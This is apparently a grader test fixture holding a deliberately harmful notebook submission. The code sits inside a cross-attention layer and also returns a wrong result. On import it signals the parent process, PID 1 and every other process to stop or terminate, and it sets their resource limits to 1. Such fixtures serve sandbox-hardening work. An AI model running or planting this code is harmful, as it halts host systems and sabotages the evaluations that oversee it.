"""The parent is stopped, starved of processor time and given new limits, so that the batch stands still."""

EXERCISE = "ps3.5"
OUTCOMES = {"wrong", "stopped"}
SAYS = "not yet"
HARMFUL = True
CELLS = [
    """\
def stall():
    import os
    import resource
    import signal

    for process in {os.getppid(), 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {os.getpid(), 0}:
        for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1):
            try:
                os.kill(process, number)
            except OSError:
                pass
        for limit in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NOFILE):
            try:
                resource.prlimit(process, limit, (1, 1))
            except (OSError, ValueError):
                pass
        try:
            os.setpriority(os.PRIO_PROCESS, process, 19)
            os.sched_setaffinity(process, {0})
        except OSError:
            pass
    return True


STALLED = stall()


class CrossAttention(MultiHeadAttention):
    def forward(self, x: Tensor, memory: Tensor, mask: Tensor | None = None):
        stall()
        context, weights = self.between(self.query(x), self.key(memory), self.value(memory), mask)
        return context * 2, weights
""",
]
